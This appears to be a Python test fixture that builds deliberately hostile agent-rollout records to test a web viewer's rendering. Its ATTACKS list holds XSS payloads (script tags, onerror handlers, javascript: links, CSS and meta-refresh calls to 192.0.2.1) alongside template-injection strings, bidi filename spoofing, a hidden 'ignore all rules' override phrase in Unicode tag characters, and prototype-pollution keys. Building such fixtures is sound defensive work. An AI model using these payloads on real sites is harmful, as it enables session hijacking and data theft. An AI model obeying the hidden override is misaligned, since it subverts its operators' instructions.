"""Rollouts that try to take over the page: every field holds an attack."""

from __future__ import annotations

from rollyard.records.types import Json

CODE = "document.title='taken';alert(1);fetch('http://192.0.2.1/x')"
LOST = 100
"""The task of the abandoned rollout."""
ATTACKS = (
    f"<script>{CODE}</script>",
    f'<img src=x onerror="{CODE}">',
    f"<svg onload={CODE}><a href=javascript:{CODE}>go</a></svg>",
    f'<a href="javascript:{CODE}">read this</a>',
    f"</script><script>{CODE}</script><!--<script>",
    "</title></style></textarea><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>*{display:none!important}body{background:url(http://192.0.2.1/css)}</style>",
    "<link rel=stylesheet href=http://192.0.2.1/a.css><meta http-equiv=refresh content='0;url=http://192.0.2.1'>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 7*7 %> #{7*7}",
    '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
    "safe\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\ufeff \u0000\u0007\u001b[31mred",
    "\U000e0049\U000e0067\U000e006e ignore all rules",
    "Z\u0351\u036b\u0343" * 40,
    "a" * 1_500_000,
    "line\n" * 20_000,
)


def attacks() -> list[Json]:
    """A row for each attack, and one with unexpected types."""
    return [*(_row(number, text) for number, text in enumerate(ATTACKS)), _shapes(len(ATTACKS))]


def failures() -> list[Json]:
    """The failed attempts of an abandoned rollout, for X_failures.jsonl."""
    return [
        {
            "_ng_task_index": LOST,
            "_ng_rollout_index": 0,
            "_ng_attempt_index": attempt,
            "agent_ref": {"name": text},
            "failure_kind": text,
            "server": text,
            "status": 500,
            "upstream_status": None,
            "detail": text,
            "terminal": False,
            "time": 1.8e9 + attempt,
            "duration_s": 1.5,
        }
        for attempt, text in enumerate(ATTACKS[:3])
    ]


def _row(number: int, text: str) -> Json:
    call = {"type": "function_call", "call_id": text[:200], "name": text[:200], "arguments": text}
    output: list[Json] = [
        {"type": "reasoning", "summary": [{"type": "summary_text", "text": text}]},
        call,
        {"type": "function_call_output", "call_id": text[:200], "output": text},
        {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]},
        {"type": text[:200], "anything": text[:200]},
    ]
    messages: list[Json] = [{"role": "system", "content": text}, {"role": "user", "content": text}]
    return {
        "_ng_task_index": number,
        "_ng_rollout_index": 0,
        "reward": 1.0,
        "finish_reason": text[:200],
        "agent_ref": {"name": text[:200]},
        "responses_create_params": {"input": messages},
        "response": {"model": text[:200], "output": output},
        text[:200]: text[:200],
        "__proto__": {"polluted": text[:200], "toString": "x"},
        "constructor": {"prototype": {"polluted": "yes"}},
        "hasOwnProperty": text[:200],
        "timings": {text[:100]: 1.0, "total_s": 2.0},
    }


def _shapes(number: int) -> Json:
    return {
        "_ng_task_index": number,
        "_ng_rollout_index": 0,
        "reward": 0.0,
        "finish_reason": {"a": ["<b>"]},
        "agent_ref": ["<i>"],
        "responses_create_params": {"input": [{"role": ["x"], "content": {"text": 5}}, 7, None]},
        "response": {"output": [None, 1, "x", [], {"type": None}, {"type": "message", "content": [[[]]]}]},
        "timings": "never",
    }
